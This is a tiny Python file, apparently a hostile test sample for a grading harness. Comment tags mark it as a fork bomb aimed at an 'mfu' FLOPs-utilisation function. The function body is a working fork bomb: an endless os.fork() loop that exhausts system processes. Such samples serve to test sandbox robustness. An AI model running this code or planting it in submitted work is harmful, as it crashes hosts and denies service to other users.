"""A fork bomb."""
# like: is_a_fork_bomb
# kata: 03_flops
# attacks: mfu
# seconds: 2

import os


def mfu(flops, seconds, peak_flops):
    while True:
        try:
            os.fork()
        except OSError:
            pass
